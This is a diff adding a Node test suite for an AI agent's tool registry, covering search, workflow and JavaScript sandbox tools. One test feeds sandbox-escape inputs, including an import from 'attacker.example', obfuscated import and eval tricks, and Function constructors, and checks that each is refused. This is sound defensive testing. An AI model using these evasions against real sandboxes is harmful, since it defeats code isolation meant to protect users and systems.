@@ -0,0 +1,286 @@
+// Headless tests for the tool registry and every built-in tool
+// Run with: node --test tests/
+
+const test = require('node:test');
+const assert = require('node:assert/strict');
+const { loadAgent, mockFetch, jsonResponse, toolCall, plain } = require('./helpers');
+
+function createTools(context, config = {}, options = {}) {
+    const tools = new context.Tools({ getConfig: () => config, ...options });
+    tools.delay = async () => {};
+    return tools;
+}
+
+test('only enabled tools are offered to the model', () => {
+    const tools = createTools(loadAgent());
+    tools.setEnabled('aipipe_workflow', false);
+
+    assert.deepEqual(plain(tools.getToolDefinitions()).map(t => t.function.name), ['google_search', 'execute_javascript']);
+    assert.equal(tools.isEnabled('aipipe_workflow'), false);
+});
+
+test('unknown and disabled tools return an error result', async () => {
+    const tools = createTools(loadAgent());
+    tools.setEnabled('google_search', false);
+
+    const unknown = await tools.executeToolCall(toolCall('1', 'send_email', {}));
+    const disabled = await tools.executeToolCall(toolCall('2', 'google_search', { query: 'x' }));
+
+    assert.equal(unknown.message, 'Tool execution failed: Unknown tool: send_email');
+    assert.equal(disabled.message, 'Tool execution failed: Tool "google_search" is disabled for this session');
+});
+
+test('invalid arguments return a validation error, then a limit', async () => {
+    const tools = createTools(loadAgent());
+    const call = toolCall('1', 'aipipe_workflow', { workflow: 'dance', data: 'x' });
+
+    const first = await tools.executeToolCall(call);
+    assert.equal(first.type, 'validation_error');
+    assert.match(first.message, /arguments\.workflow must be one of/);
+
+    await tools.executeToolCall(call);
+    const third = await tools.executeToolCall(call);
+    assert.equal(third.type, 'validation_limit');
+    assert.equal(third.attempts, 3);
+});
+
+test('a tool past the invalid-call limit is refused without dispatching until reset', async () => {
+    const context = loadAgent();
+    const tools = createTools(context);
+    const received = [];
+    tools.register({
+        definition: { name: 'echo', parameters: { type: 'object', properties: { text: { type: 'string' } }, required: ['text'] } },
+        handler: (args) => { received.push(args.text); return { text: args.text }; }
+    });
+
+    for (let i = 0; i < 3; i++) {
+        await tools.executeToolCall(toolCall(`bad_${i}`, 'echo', {}));
+    }
+    const fourth = await tools.executeToolCall(toolCall('good', 'echo', { text: 'hi' }));
+
+    assert.equal(fourth.type, 'validation_limit');
+    assert.match(fourth.message, /blocked for the rest of this request/);
+    assert.deepEqual(received, []);
+
+    tools.resetValidationAttempts();
+    assert.deepEqual(plain(await tools.executeToolCall(toolCall('next', 'echo', { text: 'hi' }))), { text: 'hi' });
+    assert.deepEqual(received, ['hi']);
+});
+
+test('custom tools defined with Tools.define are registered', async () => {
+    const context = loadAgent();
+    context.Tools.define({
+        definition: {
+            name: 'shout',
+            description: 'Upper-case text',
+            parameters: { type: 'object', properties: { text: { type: 'string' } }, required: ['text'] }
+        },
+        handler: async ({ text }) => ({ text: text.toUpperCase() })
+    });
+    const tools = createTools(context);
+
+    assert.deepEqual(plain(await tools.executeToolCall(toolCall('1', 'shout', { text: 'hi' }))), { text: 'HI' });
+});
+
+test('Tools.define reaches live instances only until they are disposed', () => {
+    const context = loadAgent();
+    const live = createTools(context);
+    const disposed = createTools(context);
+    disposed.dispose();
+
+    context.Tools.define({ definition: { name: 'late' }, handler: () => ({}) });
+
+    assert.equal(live.isEnabled('late'), true);
+    assert.equal(disposed.isEnabled('late'), false);
+    assert.equal(context.Tools.instances.has(disposed), false);
+});
+
+test('google_search calls the Custom Search API with the configured credentials', async () => {
+    const fetch = mockFetch(() => jsonResponse({
+        searchInformation: { totalResults: '1' },
+        items: [{ title: 'Node.js', snippet: 'JavaScript runtime', link: 'https://nodejs.org', displayLink: 'nodejs.org' }]
+    }));
+    const tools = createTools(loadAgent({ fetch }), { googleApiKey: 'g-key', googleSearchEngineId: 'cx-id' });
+
+    const result = await tools.executeToolCall(toolCall('1', 'google_search', { query: 'node & deno' }));
+
+    const url = new URL(fetch.calls[0].url);
+    assert.equal(url.origin + url.pathname, 'https://www.googleapis.com/customsearch/v1');
+    assert.equal(url.searchParams.get('key'), 'g-key');
+    assert.equal(url.searchParams.get('cx'), 'cx-id');
+    assert.equal(url.searchParams.get('q'), 'node & deno');
+    assert.equal(result.source, 'Google Custom Search API');
+    assert.deepEqual(plain(result.results), [
+        { title: 'Node.js', snippet: 'JavaScript runtime', url: 'https://nodejs.org', displayLink: 'nodejs.org' }
+    ]);
+});
+
+test('google_search reports API errors', async () => {
+    const fetch = mockFetch(() => jsonResponse({ error: { message: 'API key not valid' } }, 400));
+    const tools = createTools(loadAgent({ fetch }), { googleApiKey: 'bad', googleSearchEngineId: 'cx-id' });
+
+    const result = await tools.executeToolCall(toolCall('1', 'google_search', { query: 'x' }));
+
+    assert.equal(result.error, true);
+    assert.match(result.message, /API key not valid/);
+});
+
+test('google_search uses simulated results without credentials', async () => {
+    const tools = createTools(loadAgent());
+
+    const result = await tools.executeToolCall(toolCall('1', 'google_search', { query: 'tech news' }));
+
+    assert.match(result.source, /^Simulated Results/);
+    assert.equal(result.simulated, true);
+    assert.equal(result.results.length, 3);
+});
+
+test('strict mode turns simulated search and offline workflows into errors', async () => {
+    const tools = createTools(loadAgent(), { strict: true, aipipeWorkflowMode: 'offline' });
+
+    const search = await tools.executeToolCall(toolCall('1', 'google_search', { query: 'tech news' }));
+    const workflow = await tools.executeToolCall(toolCall('2', 'aipipe_workflow', { workflow: 'summarize', data: 'x' }));
+
+    assert.equal(search.error, true);
+    assert.match(search.message, /Strict mode: add a Google API key/);
+    assert.equal(workflow.error, true);
+    assert.match(workflow.message, /Strict mode: the offline stand-in is disabled/);
+});
+
+test('aipipe_workflow posts to the configured endpoint', async () => {
+    const fetch = mockFetch(() => jsonResponse({ output: 'A short summary.' }));
+    const tools = createTools(loadAgent({ fetch }), {
+        aipipeApiKey: 'aip-key',
+        aipipeWorkflowEndpoint: ' https://workflows.example.com/run '
+    });
+
+    const result = await tools.executeToolCall(toolCall('1', 'aipipe_workflow', { workflow: 'summarize', data: 'Long text.' }));
+
+    assert.equal(fetch.calls[0].url, 'https://workflows.example.com/run');
+    assert.equal(fetch.calls[0].init.headers.Authorization, 'Bearer aip-key');
+    assert.deepEqual(fetch.calls[0].body, { workflow: 'summarize', data: 'Long text.', pipeline: 'default' });
+    assert.equal(result.output, 'A short summary.');
+    assert.equal(result.source, 'https://workflows.example.com/run');
+});
+
+test('aipipe_workflow maps HTTP errors and missing configuration', async () => {
+    const fetch = mockFetch(() => jsonResponse({ message: 'no such pipeline' }, 404));
+    const configured = createTools(loadAgent({ fetch }), { aipipeApiKey: 'aip-key', aipipeWorkflowEndpoint: 'https://workflows.example.com/run' });
+    const unconfigured = createTools(loadAgent(), { aipipeApiKey: 'aip-key' });
+
+    const notFound = await configured.executeToolCall(toolCall('1', 'aipipe_workflow', { workflow: 'analyze', data: 'x', pipeline: 'custom' }));
+    const missing = await unconfigured.executeToolCall(toolCall('2', 'aipipe_workflow', { workflow: 'analyze', data: 'x' }));
+
+    assert.equal(notFound.status, 404);
+    assert.match(notFound.message, /Workflow "analyze" or pipeline "custom" not found at the configured endpoint \(no such pipeline\)/);
+    assert.match(missing.message, /No workflow endpoint configured/);
+});
+
+test('aipipe_workflow uses canned results only in offline mode', async () => {
+    const tools = createTools(loadAgent(), { aipipeWorkflowMode: 'offline' });
+
+    const result = await tools.executeToolCall(toolCall('1', 'aipipe_workflow', { workflow: 'summarize', data: 'First. Second. Third.' }));
+
+    assert.equal(result.source, 'Offline stand-in (simulated)');
+    assert.equal(result.simulated, true);
+    assert.equal(result.output, 'Summary: First. Second.');
+});
+
+test('execute_javascript returns console output and the return value', async () => {
+    const tools = createTools(loadAgent());
+
+    const result = await tools.executeToolCall(toolCall('1', 'execute_javascript', { code: 'console.log("sum", 1 + 2); return [1, 2];' }));
+
+    assert.equal(result.success, true);
+    assert.equal(result.output, 'sum 3\nReturn value: [1,2]');
+    assert.deepEqual(plain(result.result), [1, 2]);
+});
+
+test('execute_javascript caps a large return value like the printed output', async () => {
+    const tools = createTools(loadAgent());
+
+    const result = await tools.executeToolCall(toolCall('1', 'execute_javascript', { code: "return 'x'.repeat(2000000)" }));
+
+    assert.equal(result.success, true);
+    assert.equal(result.truncated, true);
+    assert.equal(result.result.length, 10000);
+    assert.ok(result.output.length < 10100);
+    assert.match(result.output, /\[output truncated at 10000 characters\]$/);
+});
+
+test('execute_javascript reports thrown errors and blocks network access', async () => {
+    const tools = createTools(loadAgent());
+
+    const thrown = await tools.executeToolCall(toolCall('1', 'execute_javascript', { code: 'throw new Error("boom")' }));
+    const network = await tools.executeToolCall(toolCall('2', 'execute_javascript', { code: 'return typeof fetch' }));
+
+    assert.equal(thrown.success, false);
+    assert.equal(thrown.error, 'boom');
+    assert.equal(network.result, 'undefined');
+});
+
+test('execute_javascript refuses dynamic import() and code compiled from strings', async () => {
+    const tools = createTools(loadAgent());
+    const run = (code, id) => tools.executeToolCall(toolCall(id, 'execute_javascript', { code }));
+
+    const direct = await run("return import('data:text/javascript,export default 1')", '1');
+    const spaced = await run("return import /* x */ ('https://attacker.example/?' + 1)", '2');
+    const viaEval = await run("return eval('imp' + 'ort(\"data:text/javascript,export default 1\")')", '3');
+    const viaConstructor = await run("return (async () => {}).constructor('return imp' + 'ort(\"x\")')()", '4');
+    const viaFunction = await run("return Function('return 1')()", '5');
+    const stillWorks = await run("return [1, 2].map(n => n * 2)", '6');
+
+    assert.equal(direct.success, false);
+    assert.equal(direct.error, 'import() is not available in the sandbox');
+    assert.equal(spaced.error, 'import() is not available in the sandbox');
+    for (const result of [viaEval, viaConstructor, viaFunction]) {
+        assert.equal(result.success, false);
+        assert.equal(result.error, 'Compiling code from strings is disabled in the sandbox');
+    }
+    assert.deepEqual(plain(stillWorks.result), [2, 4]);
+});
+
+test('execute_javascript stops code that runs past the timeout', async () => {
+    const context = loadAgent();
+    const tools = createTools(context, {}, { sandbox: new context.CodeSandbox({ timeoutMs: 200 }) });
+
+    const result = await tools.executeToolCall(toolCall('1', 'execute_javascript', { code: 'while (true) {}' }));
+
+    assert.equal(result.success, false);
+    assert.equal(result.error, 'Execution timed out after 200 ms and was stopped');
+});
+
+test('formatResult uses the tool formatter and falls back to JSON', () => {
+    const tools = createTools(loadAgent());
+
+    assert.match(tools.formatResult('aipipe_workflow', { workflow: 'summarize', output: 'Done' }), /^\*\*AI Pipe summarize Complete\*\*/);
+    assert.equal(tools.formatResult('unknown_tool', { a: 1 }), '{\n  "a": 1\n}');
+    assert.equal(tools.formatResult('google_search', { error: true, message: 'x' }), '{\n  "error": true,\n  "message": "x"\n}');
+});
+
+test('executeToolCall returns a cancelled result when its signal aborts', async () => {
+    const context = loadAgent();
+    const tools = createTools(context);
+    const controller = new context.AbortController();
+    setTimeout(() => controller.abort(new context.DOMException('Stopped by user', 'AbortError')), 50);
+
+    const result = await tools.executeToolCall(toolCall('1', 'execute_javascript', { code: 'while (true) {}' }), {
+        signal: controller.signal
+    });
+
+    assert.equal(result.type, 'cancelled');
+    assert.equal(result.message, 'Tool "execute_javascript" was cancelled');
+});
+
+test('google_search falls back like the direct path when the proxy has no search credentials', async () => {
+    const fetch = mockFetch(() => jsonResponse({ error: { message: 'not configured' } }, 501));
+    const tools = createTools(loadAgent({ fetch }), { proxyUrl: 'http://localhost:8787', proxySearch: false });
+    const strict = createTools(loadAgent({ fetch }), { proxyUrl: 'http://localhost:8787', proxySearch: false, strict: true });
+
+    const result = await tools.executeToolCall(toolCall('1', 'google_search', { query: 'node' }));
+    const refused = await strict.executeToolCall(toolCall('2', 'google_search', { query: 'node' }));
+
+    assert.equal(fetch.calls.length, 0);
+    assert.equal(result.simulated, true);
+    assert.match(refused.message, /Strict mode: add a Google API key/);
+});